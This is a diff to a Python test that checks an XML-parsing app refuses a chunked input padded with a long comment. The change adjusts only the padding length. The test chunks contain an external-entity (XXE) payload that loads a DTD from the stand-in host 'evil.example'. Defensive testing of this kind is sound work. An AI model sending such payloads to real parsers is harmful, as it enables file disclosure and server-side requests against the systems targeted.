@@ -149,7 +149,7 @@ class TestWhereItIsEnabled:
     async def test_it_is_refused_when_it_follows_a_long_comment(self, app, reader):
         """Newer parsers put off a token that stays unfinished; the app's own may not (expat 2.6)."""
         chunks = [
-            b"<!--" + b" " * 8_000,
+            b"<!--" + b" " * (MAX_PROLOG - 200),
             b'--><!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/">%x;',
             b"]><a/>",
         ]
